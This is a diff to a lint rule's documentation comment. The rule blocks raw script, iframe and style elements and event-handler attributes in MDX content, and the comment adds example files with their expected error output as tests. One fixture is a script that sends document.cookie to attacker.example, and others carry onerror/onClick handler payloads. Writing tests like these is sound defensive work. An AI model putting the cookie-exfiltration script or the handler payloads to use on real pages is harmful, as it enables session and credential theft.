@@ -1,16 +1,64 @@
 /**
- * cet:no-raw-html — no `<script>`, `<iframe>` or `<style>`, and no event
- * handler attribute (`onclick`, `onError`…) on any element or heading.
- *
- * ```mdx
- * <script>alert(1)</script>            ✗ RawHtmlElement
- * <Term id="emb" onClick="go()" />     ✗ EventHandlerAttribute
- * ## Why {#why onclick=go()}           ✗ EventHandlerAttribute
- * Write **Markdown** instead.          ✓
- * ```
+ * cet:no-raw-html — no `<script>`, `<iframe>` or `<style>`, whatever their
+ * case, and no event handler attribute (`onclick`, `onError`…) on any
+ * element or heading.
  *
  * Part of the build gate (`src/markdown/mdx-gate.ts`) as well as of
- * `npm run lint:content`.
+ * `npm run lint:content`. In the gate, cet:mdx-allowlist also refuses an HTML
+ * element that is not one of these three, and an attribute is reported at
+ * its element. remark-mdx cannot read a heading attribute, so there
+ * `npm run lint:content` reports the file as unreadable.
+ *
+ * Examples (run as tests by tests/unit/lint/rule-examples.test.ts, which
+ * describes the form):
+ *
+ * @example ok.mdx Markdown, and a component without a handler
+ * ```mdx
+ * ## Why this matters {#why}
+ *
+ * Write **Markdown** and <Term id="emb" />.
+ * ```
+ *
+ * @example not-ok.mdx A script, an iframe and a style element
+ * ```mdx
+ * <script>fetch('https://attacker.example/?c=' + document.cookie)</script>
+ *
+ * <IFRAME src="https://results.example.org/live" />
+ *
+ * Results <style>table</style> follow.
+ * ```
+ * ```text
+ * 1:1 RawHtmlElement: The <script> element is not allowed in content: it would run code in the reader's browser.
+ * 3:1 RawHtmlElement: The <IFRAME> element is not allowed in content: it would load another site into the page.
+ * 5:9 RawHtmlElement: The <style> element is not allowed in content: it would restyle the page outside the site's stylesheet.
+ * ```
+ *
+ * @example not-ok-handlers.mdx Event handlers on a component and on an HTML element
+ * ```mdx
+ * Ask <Term id="emb" onClick="steal()" />.
+ *
+ * <img alt="The seal log" src="seal-log.png" onerror="steal()" />
+ * ```
+ * ```text
+ * 1:20 EventHandlerAttribute: The attribute onClick on <Term> is an event handler, which would run code in the reader's browser.
+ * 3:44 EventHandlerAttribute: The attribute onerror on <img> is an event handler, which would run code in the reader's browser.
+ * ```
+ * ```text gate
+ * 3:1 DisallowedComponent: The HTML element <img> is not allowed in content; the components content may use are <Term>.
+ * 1:5 EventHandlerAttribute: The attribute onClick on <Term> is an event handler, which would run code in the reader's browser.
+ * 3:1 EventHandlerAttribute: The attribute onerror on <img> is an event handler, which would run code in the reader's browser.
+ * ```
+ *
+ * @example not-ok-heading.mdx An event handler on a heading
+ * ```mdx
+ * ## Why this matters {#why onmouseover=steal()}
+ * ```
+ * ```text
+ * 1:22 MdxSyntax: The MDX could not be read: Could not parse expression with acorn
+ * ```
+ * ```text gate
+ * 1:1 EventHandlerAttribute: The attribute onmouseover on <h2> is an event handler, which would run code in the reader's browser.
+ * ```
  */
 import type { Root } from 'mdast';
 import { lintRule } from 'unified-lint-rule';
